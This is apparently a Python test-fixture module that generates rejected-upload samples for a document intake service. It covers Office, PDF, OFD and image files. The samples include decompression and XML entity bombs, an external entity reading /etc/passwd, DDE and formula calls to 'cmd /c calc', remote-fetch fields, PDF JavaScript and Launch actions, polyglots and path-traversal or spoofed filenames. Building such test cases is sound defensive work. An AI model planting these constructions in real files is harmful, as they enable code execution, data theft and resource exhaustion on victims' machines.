"""Bad files, made by code and never kept: every one must be refused in words, in bounded time and memory."""

import zlib
from collections.abc import Iterator
from io import BytesIO

import pikepdf
from pypdf import PdfReader, PdfWriter

from flows.uploads.archives import MAX_PARTS, MAX_UNPACKED, MAX_XML
from flows.views.cases import MAX_FILE_BYTES
from tests.flows.good_files import (
    OFFICE,
    PDF,
    XML,
    archive,
    chunk,
    docx,
    jpeg,
    ofd,
    pdf,
    png,
    relations,
    segment,
    types,
    xlsx,
)

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ZIP = archive(("a.txt", b"a"))
PAGE = b"<html><script>alert(1)</script></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
BOMB = XML + b'<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">%s]><d>&z;</d>' % b"".join(
    b'<!ENTITY %c "%s">' % (97 + n, b"&%c;" % (96 + n) * 10) for n in range(1, 26)
)
OUTSIDE = XML + b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
Bad = Iterator[tuple[str, str, bytes]]


def bad_files() -> Bad:
    """What is wrong, the name, and the content."""
    yield from bad_frames()
    yield from bad_archives()
    yield from bad_office_files()
    yield from bad_pdfs()
    yield from bad_pictures()
    yield from marked_files()


def bad_frames() -> Bad:
    """Size, kind and plain virus."""
    yield "0 bytes", "空.pdf", b""
    yield "1 byte", "一.png", b"\x89"
    yield "one byte too many", "大.jpg", jpeg() + bytes(MAX_FILE_BYTES + 1 - len(jpeg()))
    for kind in ("pdf", "ofd", "docx", "xlsx", "jpg", "png"):
        yield f"program as {kind}", f"程序.{kind}", b"MZ\x90\x00\x03" + bytes(100)
        yield f"page as {kind}", f"网页.{kind}", PAGE
    yield "drawing as png", "图.png", SVG
    yield "old text as new", "旧.docx", OLE
    yield "kind not taken", "宏.docm", docx()
    yield "double ending", "图.png.exe", png()
    yield "virus in a pdf", "毒.pdf", pdf(content=EICAR)
    yield "virus alone", "毒.docx", EICAR


def bad_archives() -> Bad:
    """Archives that swell, overlap, hide or lie."""
    yield "flat bomb", "炸弹.docx", docx(("word/media/a.bmp", bytes(MAX_UNPACKED)))
    yield "text bomb", "炸弹.xlsx", xlsx(("xl/a.xml", b"<a>" + b" " * MAX_XML + b"</a>"))
    yield "nested bomb", "套娃.docx", docx(("word/media/a.png", archive(("b.zip", archive(("c", bytes(10**7)))))))
    yield "nested chart", "套娃图表.docx", docx(("word/embeddings/a.xlsx", xlsx(("xl/embeddings/b.xlsx", xlsx()))))
    yield "overlapping parts", "重叠.docx", overlapping()
    yield "too many parts", "碎片.docx", docx(*((f"x/{n}", b"") for n in range(MAX_PARTS)))
    yield "lying table", "谎报.docx", lying()
    yield "same name twice", "重名.docx", twice()
    yield "way out", "越界.docx", docx(("../../etc/cron.d/a", b"a"))
    yield "locked", "加密.docx", locked()
    yield "truncated", "截断.docx", docx()[:-40]
    yield "program in front", "自解压.docx", b"MZ" + docx()
    yield "tail", "尾巴.docx", docx() + PAGE
    yield "virus packed", "毒包.docx", docx(("word/media/a.png", EICAR))
    yield "archive as ofd", "包.ofd", ZIP
    yield "program in ofd", "程序.ofd", ofd(("Doc_0/Attachs/a.dat", b"MZ\x90\x00"))


def bad_office_files() -> Bad:
    """What a word processor would run or fetch."""
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    plain = ("word/document.xml", XML + b"<d/>")
    yield "docm renamed", "宏.docx", archive(("[Content_Types].xml", types("docx", macro)), plain)
    yield "no types", "无类型.docx", archive(plain)
    yield "macros", "宏工程.docx", docx(("word/vbaProject.bin", OLE))
    yield "macros in a sheet", "宏表.xlsx", xlsx(("xl/vbaProject.bin", OLE))
    yield "old macro sheet", "四代宏.xlsx", xlsx(("xl/macrosheets/sheet1.xml", XML + b"<a/>"))
    yield "control", "控件.docx", docx(("word/activeX/activeX1.xml", XML + b"<a/>"))
    yield "embedded object", "对象.docx", docx(("word/embeddings/oleObject1.bin", OLE))
    yield "embedded pdf", "内嵌.docx", docx(("word/embeddings/a.bin", PDF))
    yield (
        "embedded page",
        "网页块.docx",
        docx(("word/_rels/document.xml.rels", relations(("aFChunk", "a.dat", False))), ("word/a.dat", PAGE)),
    )
    for target in (
        "https://elsewhere.example/a.dotm",
        "\\\\elsewhere\\a.dotm",
        "file://elsewhere/a.dotm",
        "mhtml:http://a!b",
    ):
        links = relations(("attachedTemplate", target, True))
        yield f"template from {target}", "模板.docx", docx(("word/_rels/settings.xml.rels", links))
    yield (
        "picture from elsewhere",
        "信标.docx",
        docx(("word/_rels/document.xml.rels", relations(("image", "http://elsewhere.example/a.png", True)))),
    )
    yield from fetching_office_files()
    call = b"<w:fldChar/><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>"
    yield "field call", "域.docx", docx(body=call)
    yield "simple field call", "简单域.docx", docx(body=b'<w:fldSimple w:instr=" &#68;DEAUTO c:\\cmd"/>')
    yield "cell call", "公式.xlsx", xlsx(cells=b"<c><f>cmd|'/c calc'!A0</f></c>")
    yield "hidden cell call", "公式.xlsx", xlsx(cells=b"<c><f>=+cmd&#x7c;&apos;/c calc&apos;!A0</f></c>")
    exchange = XML + b"<e><ddeLink ddeService='cmd'/></e>"
    yield "data exchange", "数据.xlsx", xlsx(("xl/externalLinks/externalLink1.xml", exchange))
    moved = types("docx").replace(b"/word/document.xml", b"/word/main.dat")
    root = ("_rels/.rels", relations(("officeDocument", "word/main.dat", False)))
    main = ("word/main.dat", XML + b"<d/>")
    yield "main part elsewhere", "别处.docx", archive(("[Content_Types].xml", moved), root, plain, main)
    yield (
        "main part elsewhere by relationship",
        "别处.docx",
        archive(("[Content_Types].xml", types("docx")), root, plain),
    )
    yield "xml that is not declared", "藏.docx", docx(("word/header1.dat", XML + b"<d/>"))
    sheet = XML + b"<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>"
    for place in (
        "xl/sheets/sheet1.xml",
        "xl/Worksheets/sheet1.xml",
        "XL/WORKSHEETS/sheet2.XML",
        "xl/worksheets/a.dat",
    ):
        declared = types(
            "xlsx", more=f'<Override PartName="/{place}" ContentType="{OFFICE}spreadsheetml.worksheet+xml"/>'
        )
        book = ("xl/workbook.xml", XML + b"<workbook/>")
        yield f"cell call in {place}", "公式.xlsx", archive(("[Content_Types].xml", declared), book, (place, sheet))
    yield "data exchange among the sheets", "数据.xlsx", xlsx(("xl/worksheets/link.xml", exchange))
    yield "another coding without its mark", "编码.docx", docx(("word/header1.xml", "<d/>".encode("utf-16-le")))
    yield "entity bomb", "实体.docx", docx(("word/header1.xml", BOMB))
    yield "outside entity", "外部实体.docx", docx(("word/header1.xml", OUTSIDE))
    yield "outside entity in a sheet", "外部实体.xlsx", xlsx(("xl/worksheets/sheet2.xml", OUTSIDE))
    yield "another coding", "编码.docx", docx(("word/header1.xml", "<d/>".encode("utf-16")))
    yield (
        "another coding declared",
        "编码.docx",
        docx(("word/header1.xml", b"<?xml version='1.0' encoding='latin-1'?><d/>")),
    )
    yield "broken part", "坏.docx", docx(("word/header1.xml", b"<d>"))


def fetching_office_files() -> Bad:
    """What a word processor asks of another machine when the file is opened."""
    for code in (
        'INCLUDEPICTURE "http://elsewhere.example/a.png" \\* MERGEFORMATINET',
        "INCLUDEPICTURE \\d http://elsewhere.example/a.png",
        'INCLUDEPICTURE "\\\\\\\\srv\\\\a.png"',
        'INCLUDEPICTURE "/\\srv\\a.png"',
        "INCLUDEPICTURE ",
        'INCLUDETEXT "C:\\\\a.docx"',
        'LINK Excel.Sheet.12 "https://elsewhere.example/a.xlsx" "Sheet1!R1C1" \\a',
        'DATABASE \\d "\\\\\\\\srv\\\\a.mdb"',
    ):
        runs = "".join(f"<w:instrText>{part}</w:instrText>" for part in (code[:9], code[9:]))
        yield f"field {code}", "域.docx", docx(body=f"<w:fldChar/>{runs}<w:fldChar/>".encode())
    drawn = b'<v:imagedata src="http://elsewhere.example/a.png"/>'
    yield "picture by its address", "图.docx", docx(body=drawn)
    yield "add-in", "加载项.docx", docx(("_rels/.rels", relations(("webextensiontaskpanes", "a.xml", False))))
    for formula in ("WEBSERVICE", "_xlfn.WEBSERVICE", "_xlfn.IMAGE", "RTD", "CALL", "image"):
        yield (
            f"formula {formula}",
            "公式.xlsx",
            xlsx(cells=f'<c><f>1+{formula} ("http://elsewhere.example")</f></c>'.encode()),
        )
    for spelt in (b"<f><![CDATA[WEBSERVICE(A1)]]></f>", b"<f>&#87;EBSERVICE(A1)</f>", b"<f>WEB<!-- -->SERVICE(A1)</f>"):
        yield f"formula in disguise {spelt!r}", "公式.xlsx", xlsx(cells=b"<c>%s</c>" % spelt)
    names = XML + b"<workbook><definedName name='a'>WEBSERVICE(A1)</definedName></workbook>"
    parts = (("[Content_Types].xml", types("xlsx")), ("xl/workbook.xml", names))
    yield "formula of a name", "名称.xlsx", archive(*parts)
    yield (
        "data connection",
        "连接.xlsx",
        xlsx(("xl/_rels/workbook.xml.rels", relations(("connections", "a.xml", False)))),
    )
    yield "opened of its own accord", "打开.ofd", ofd(("Doc_0/Document.xml", XML + OFD_ACTION))


OFD_ACTION = b"<d><o:Action xmlns:o='o' Event='DO'><o:URI URI='http://elsewhere.example'/></o:Action></d>"


def bad_pdfs() -> Bad:
    """PDFs that run, carry, hide or break."""
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    yield "script at opening", "脚本.pdf", pdf(catalog=b"/OpenAction" + script)
    yield "script by name", "脚本名.pdf", pdf(catalog=b"/Names<</JavaScript<</Names[(a)5 0 R]>>>>", objects=(script,))
    disguised = b"/OpenAction<</S/J#61vaScript/#4aS 5 0 R>>"
    yield "script in disguise", "伪装.pdf", pdf(catalog=disguised, objects=(b"(app.alert\\(1\\))",))
    yield "script packed away", "压缩.pdf", packed_script()
    yield "launch", "启动.pdf", pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>")
    yield "launch on a click", "点击.pdf", pdf(page=b"/Annots[<</Subtype/Link/A<</S/Launch/F(a.exe)>>>>]")
    yield "form that sends", "提交.pdf", pdf(page=b"/AA<</O<</S/SubmitForm/F(http://elsewhere.example)>>>>")
    yield "embedded file", "附件.pdf", with_attachment()
    yield "dynamic form", "动态表单.pdf", pdf(catalog=b"/AcroForm<</XFA 5 0 R/Fields[]>>", objects=(b"[]",))
    yield "film", "影片.pdf", pdf(page=b"/Annots[<</Subtype/RichMedia>>]")
    yield "locked", "加密.pdf", locked_pdf("secret")
    yield "broken table", "断表.pdf", PDF.replace(b"startxref\n", b"startxref\n9")
    yield "no table", "无表.pdf", b"%PDF-1.7\n%%EOF\n"
    yield "truncated", "截断.pdf", PDF[: len(PDF) // 2]
    yield "no page", "无页.pdf", PDF.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0")
    yield "bomb in a page", "满.pdf", swelling_page()
    for size in (200, 1500):
        yield f"bomb of {size} MB", f"炸弹{size}.pdf", pdf(objects=(flate(blanks(size)),))
    yield "bomb in a bomb", "双层.pdf", pdf(objects=(flate(zlib.compress(blanks(200)), b"[/FlateDecode/FlateDecode]"),))
    yield "bomb as a picture", "图.pdf", pdf(objects=(picture(12_000, 12_000, blanks(137)),))
    yield "picture that is drawn too large", "大图.pdf", pdf(objects=(picture(60_000, 60_000, zlib.compress(b"")),))
    yield from fetching_pdfs()
    yield "10,000 brackets", "嵌套.pdf", pdf(page=b"/X 5 0 R", objects=(b"[" * 10_000 + b"]" * 10_000,))
    yield "10,000 dictionaries", "字典.pdf", pdf(page=b"/X 5 0 R", objects=(b"<</A" * 10_000 + b" 1" + b">>" * 10_000,))
    yield "objects beyond count", "对象.pdf", pdf(objects=(b"1",) * 100_001)
    yield "and an archive", "两用.pdf", PDF + ZIP
    yield "and an archive before the end", "两用二.pdf", PDF + ZIP + b"\n%%EOF\n"
    yield "and a page", "网页.pdf", PDF + PAGE


def fetching_pdfs() -> Bad:
    """What asks another machine when it is opened, or names a file on one."""
    address = b"<</S/URI/URI(http://elsewhere.example/a)>>"
    yield "address at opening", "打开.pdf", pdf(catalog=b"/OpenAction" + address)
    yield "address at opening, elsewhere in the file", "打开.pdf", pdf(catalog=b"/OpenAction 5 0 R", objects=(address,))
    yield "address behind a place", "其后.pdf", pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[%s]>>" % address)
    yield "address of a page", "翻页.pdf", pdf(page=b"/AA<</O%s>>" % address)
    yield "address of a note", "批注.pdf", pdf(page=b"/Annots[<</Subtype/Link/AA<</PV%s>>>>]" % address)
    yield (
        "file of another machine",
        "共享.pdf",
        pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\srv\\\\a.pdf)/D[0/Fit]>>"),
    )
    yield "file of another machine on a click", "点击.pdf", pdf(page=b"/Annots[<</A<</S/GoToR/F(//srv/a.pdf)>>>>]")
    yield "data at an address", "外部流.pdf", pdf(page=b"/X<</FS/URL/F(http://elsewhere.example/a)>>")
    yield "page of another file", "引用.pdf", pdf(page=b"/X<</Ref<</F<</UF(ftp://elsewhere.example/a.pdf)>>>>>>")


def blanks(megabytes: int) -> bytes:
    """So many megabytes of zeros, packed: one of them again and again, an end, and zlib's sum of so many zeros."""
    packing = zlib.compressobj(1, wbits=-15)
    one = packing.compress(bytes(1 << 20)) + packing.flush(zlib.Z_FULL_FLUSH)
    total = ((megabytes << 20) % 65_521 << 16) + 1
    return b"\x78\x01" + one * megabytes + b"\x03\x00" + total.to_bytes(4)


def flate(packed: bytes, how: bytes = b"/FlateDecode", more: bytes = b"") -> bytes:
    """A stream of a PDF that unpacks to something."""
    return b"<</Filter%s/Length %d%s>>stream\n%s\nendstream" % (how, len(packed), more, packed)


def picture(width: int, height: int, packed: bytes) -> bytes:
    """A picture of a PDF, grey."""
    size = b"/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceGray" % (width, height)
    return flate(packed, more=size)


def bad_pictures() -> Bad:
    """Pictures that swell, break or are something else as well."""
    yield "bomb by size", "大图.png", png(width=60_000, height=60_000)
    yield "bomb by size", "大图.jpg", jpeg(width=65_535, height=65_535)
    yield "no size", "无.png", png(width=0)
    yield "truncated", "截断.png", png()[:-20]
    yield "truncated", "截断.jpg", jpeg()[:-8]
    yield "wrong checksum", "错.png", png().replace(b"IDAT", b"IDAU")
    yield "no data", "空.png", png()[:33] + chunk(b"IEND", b"")
    yield "only a beginning", "头.jpg", b"\xff\xd8\xff\xe0"
    yield "tail", "尾.png", png() + b"rest"
    yield "tail of an archive", "包.png", png() + ZIP
    yield "archive behind", "包.jpg", jpeg() + ZIP
    yield "page behind", "页.jpg", jpeg() + PAGE
    yield "page inside", "页内.jpg", jpeg(segment(0xFE, PAGE))
    yield "page inside", "页内.png", png(chunk(b"tEXt", b"Comment\0" + PAGE))
    yield "pdf behind", "文.jpg", jpeg() + PDF
    yield "moving picture with a program", "GIFAR.jpg", b"GIF89a" + ZIP


def marked_files() -> Bad:
    """A secrecy mark where text may stand."""
    mark = "机密★1年"
    yield "mark in the name", f"{mark}.pdf", PDF
    yield "mark in runs", "文.docx", docx(body="".join(f"<w:t>{c}</w:t>" for c in mark).encode())
    yield "mark in a header", "头.docx", docx(("word/header1.xml", XML + f"<d>{mark}</d>".encode()))
    header = f'<Override PartName="/word/header1.dat" ContentType="{OFFICE}wordprocessingml.header+xml"/>'
    types_and_text = ("[Content_Types].xml", types("docx", more=header)), ("word/document.xml", XML + b"<d/>")
    yield (
        "mark in a part of another ending",
        "头.docx",
        archive(*types_and_text, ("word/Header1.dat", f"<d>{mark}</d>".encode())),
    )
    yield "mark in a sheet", "表.xlsx", xlsx(("xl/sharedStrings.xml", XML + f"<s>{mark}</s>".encode()))
    yield "mark in a page", "版.ofd", ofd(("Doc_0/Pages/Page_0/Content.xml", XML + f"<t>{mark}</t>".encode()))
    yield "mark in properties", "图.jpg", jpeg(segment(0xFE, mark.encode("gb18030")))


def overlapping() -> bytes:
    """Two entries of the table that unpack the same bytes."""
    content = bytearray(docx(("word/a1", b"x" * 1000), ("word/a2", b"x" * 1000)))
    table = content.index(b"PK\x01\x02")
    first = content.index(b"word/a1", table) - 46
    second = content.index(b"word/a2", table) - 46
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def lying() -> bytes:
    """A part that is larger than the table says."""
    content = bytearray(docx(("word/a", b"x" * 100_000)))
    at = content.index(b"word/a", content.index(b"PK\x01\x02", len(content) - 400)) - 46
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(content)


def twice() -> bytes:
    """Two parts of one name: programs differ in which they read."""
    return docx(("word/a1.xml", XML + b"<a/>"), ("word/a2.xml", XML + b"<b/>")).replace(b"word/a2.xml", b"word/a1.xml")


def locked() -> bytes:
    """Encrypted by its flags."""
    content = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.index(signature) + offset
        content[at] |= 1
    return bytes(content)


def packed_script() -> bytes:
    """The catalogue inside an object stream, where no search of the bytes finds it."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"))))
    plain = BytesIO()
    writer.write(plain)
    packed = BytesIO()
    with pikepdf.open(plain) as document:
        document.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return packed.getvalue()


def with_attachment() -> bytes:
    """A PDF that carries another file."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(PDF)))
    writer.add_attachment("a.exe", b"MZ")
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def locked_pdf(password: str, content: bytes = PDF) -> bytes:
    """Encrypted; without a password to open it only printing or copying is restricted."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(content)))
    writer.encrypt(password, "owner", algorithm="AES-256")
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def swelling_page() -> bytes:
    """A page whose content is kilobytes that unpack to a hundred megabytes of text operators."""
    packed = zlib.compress(b"BT (a) Tj ET " * 8_000_000)
    stream = b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    return pdf(objects=(stream,), page=b"/Contents 5 0 R").replace(b"/Contents 4 0 R/", b"/Unknown_ 4 0 R/")


NAMES = {
    "500 characters": "长" * 500 + ".pdf",
    "reversed direction": "a\u202efdp.exe.pdf",
    "isolated direction": "a\u2066b.pdf",
    "control": "a\x07.pdf",
    "line": "a\n.pdf",
    "NUL": "a\x00.pdf",
    "paths up": "../../etc/passwd.pdf",
    "paths of Windows": "..\\a.pdf",
    "drive": "C:a.pdf",
    "stars": "a*?.pdf",
    "trailing dots": "a.pdf...",
    "reserved": "CON.pdf",
    "reserved port": "lpt1.report.pdf",
    "hidden": ".a.pdf",
    "blanks": "   ",
    "nothing": "",
    "half a character": "a\ud800.pdf",
    "private": "a\ue000.pdf",
    "invisible": "a\u200b.pdf",
}
MENDED = {
    "-rf.pdf": "-rf.pdf",
    "  通知.pdf ": "通知.pdf",
    "Cafe\u0301.pdf": "Café.pdf",
    "a" * 196 + ".pdf": "a" * 196 + ".pdf",
}
